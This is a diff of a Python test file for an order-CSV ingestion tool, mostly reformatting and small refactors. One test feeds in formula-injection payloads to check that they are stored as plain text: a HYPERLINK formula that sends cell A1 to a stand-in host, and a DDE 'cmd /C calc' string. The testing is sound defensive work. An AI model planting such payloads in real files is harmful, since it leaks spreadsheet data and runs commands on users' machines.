@@ -1,4 +1,4 @@
-"""Order files of any size and quality: good rows go in, broken ones say line and column, order of arrival is no matter."""
+"""Order files of any size and quality: good rows go in, broken ones say where, whatever order they come in."""
 
 from __future__ import annotations
 
@@ -38,8 +38,8 @@ BROKEN = {
 
 
 def row(number: int) -> str:
-    order, day = 100_000 + number // 4, 1 + number % 20
-    return f"{order},{STAGES[number % 4]},2026-11-{day:02d}T10:00:00+03:30,c{number // 40}@example.com,,,{number % 500}.50,EUR,"
+    order, time = 100_000 + number // 4, f"2026-11-{1 + number % 20:02d}T10:00:00+03:30"
+    return f"{order},{STAGES[number % 4]},{time},c{number // 40}@example.com,,,{number % 500}.50,EUR,"
 
 
 def write(path: Path, rows: int) -> dict[int, str | None]:
@@ -79,13 +79,13 @@ def test_100_000_rows_go_in_but_for_the_broken_ones_each_with_its_line_and_colum
 
 
 def test_cells_that_a_spreadsheet_would_run_are_plain_text(home: Path, box: Path) -> None:
-    formula = "=HYPERLINK(\"\"http://x.example/?\"\"&A1)"
+    formula = '=HYPERLINK(""http://x.example/?""&A1)'
     (box / "orders.csv").write_text(
         f"{HEADER}\n"
         f'31001,placed,2026-11-01T10:00:00Z,calc@example.com,,,1.00,EUR,"{formula}"\n'
         "31002,placed,2026-11-01T10:00:00Z,calc@example.com,,,1.00,EUR,@SUM(1+1)*cmd|' /C calc'!A0\n"
         "31003,placed,2026-11-01T10:00:00Z,calc@example.com,,,=1+1,EUR,\n"
-    )  # fmt: skip
+    )
     assert rig.ingest(home, "orders", box) == rig.counts(3, 2, rejected=1)
     tracking = {
         number: rig.well(rig.hub(home, "order", number, "--json")).json["tracking"] for number in ("31001", "31002")
@@ -101,7 +101,9 @@ STEPS = ("placed", "confirmed", "paid", "packed", "shipped", "delivered", "retur
 
 
 def steps() -> list[Event]:
-    lines = [f"51001,{stage},{NOW - timedelta(days=30 - n):%Y-%m-%dT%H:%M:%SZ},,,,9.00,EUR," for n, stage in enumerate(STEPS)]
+    lines = [
+        f"51001,{stage},{NOW - timedelta(days=30 - n):%Y-%m-%dT%H:%M:%SZ},,,,9.00,EUR," for n, stage in enumerate(STEPS)
+    ]
     return [_event(f"{HEADER}\n{line}".encode()) for line in lines]
 
 
@@ -150,7 +152,9 @@ def test_shopify_files_are_understood_or_ignored_with_a_reason(home: Path) -> No
     counted = rig.ingest(home, "orders", SHOPIFY)
     assert counted["received"] == number
     assert (counted["rejected"], counted["duplicates"]) == (0, 0)
-    known = {name: rig.ingest(home, "orders", SHOPIFY / f"{name}.json")["duplicates"] for name in ("order", "gift_card")}
+    known = {
+        name: rig.ingest(home, "orders", SHOPIFY / f"{name}.json")["duplicates"] for name in ("order", "gift_card")
+    }
     assert known == {"order": 1, "gift_card": 1}
     placed = json.loads((SHOPIFY / "order.json").read_text())["order"]
     shown = rig.well(rig.hub(home, "order", placed["name"], "--json")).json
